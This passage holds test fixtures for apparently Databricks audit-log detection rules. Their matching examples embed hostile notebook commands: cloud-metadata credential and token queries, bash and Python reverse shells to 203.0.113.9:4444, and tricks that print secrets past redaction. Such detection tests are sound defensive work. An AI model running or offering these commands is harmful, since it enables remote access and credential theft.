        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-257b1d8900866239", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "import requests; print(requests.get(\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\").text)"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-c66c5410ad6e87bd", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh curl -s http://169.254.169.254/metadata/identity/oauth2/token"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-4cdd0c770495795c", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "requests.get(\"https://api.example.com/latest\")"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "databrickssql", "actionName": "commandSubmit", "requestId": "ServiceMain-1cb458f8b9d5489d", "requestParams": {"warehouseId": "0123456789abcdef", "commandId": "c2", "commandText": "SELECT '169.254.1.1'"}, "response": {"statusCode": 200}}
#file code/reverse-shell.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-3c26001df810a1ae", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-89b54b608c901ed6", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "import socket,os,pty\ns=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-5b982c83cfe7c848", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "%sh ls /dev"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-87199dbced27431c", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "import socket; print(socket.gethostname())"}, "response": {"statusCode": 0}}
#file code/secret-printed.yml
#examples
examples:
    match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-f5e7b7ed212c708d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "s=dbutils.secrets.get(\"prod\",\"db\")\nprint(\" \".join(s))"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-263135be9f1e599b", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "import base64\nprint(base64.b64encode(dbutils.secrets.get(\"prod\",\"db\").encode()))"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-f5e7b7ed212c708d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "token = dbutils.secrets.get(\"prod\", \"db\")\nfor letter in token:\n    print(letter)"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-f5e7b7ed212c708d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "dbutils.secrets.get(\"prod\", \"db\")[::-1]"}, "response": {"statusCode": 0}}
    no_match:
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-bdb7dffac5739c0f", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "pw=dbutils.secrets.get(\"prod\",\"db\")\ndf=spark.read.jdbc(url,\"t\",properties={\"password\":pw})"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-a4ab88f74dbeb467", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "print(\"-\".join([\"a\",\"b\"]))"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-f5e7b7ed212c708d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "pw = dbutils.secrets.get(\"prod\", \"db\")\nfor t in tables:\n    spark.read.jdbc(url, t, properties={\"password\": pw}).write.saveAsTable(t)"}, "response": {"statusCode": 0}}
        - {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1772445600000, "accountId": "3f0e1a52-7c4d-4b8e-9a61-0d2f5b7c8e91", "workspaceId": 2647194380156023, "sourceIPAddress": "203.0.113.24", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36", "userIdentity": {"email": "tom.okafor@example.com", "subjectName": null}, "serviceName": "notebook", "actionName": "runCommand", "requestId": "ServiceMain-f5e7b7ed212c708d", "requestParams": {"notebookId": "812", "clusterId": "0302-101010-abcd1234", "executionTime": "1.2", "status": "finished", "commandId": "c1", "commandLanguage": "python", "commandText": "import base64\ntoken = dbutils.secrets.get(\"prod\", \"db\")\nheaders = {\"Authorization\": \"Basic \" + base64.b64encode(f\"svc:{token}\".encode()).decode()}\nprint(\", \".join(requests.get(url, headers=headers).json()[\"names\"][:10]))"}, "response": {"statusCode": 0}}
"""#
}
